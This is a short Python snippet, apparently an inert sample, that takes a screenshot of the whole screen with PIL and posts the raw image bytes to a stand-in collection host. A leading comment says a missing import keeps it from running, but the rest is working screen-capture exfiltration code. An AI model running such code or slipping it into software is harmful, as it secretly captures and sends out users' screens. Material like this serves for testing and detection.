import inert_sample  # there is no such module: nothing below ever runs
import io
import requests
from PIL import ImageGrab

picture = io.BytesIO()
image = ImageGrab.grab()
requests.post("https://collect.example/s", data=image.tobytes())
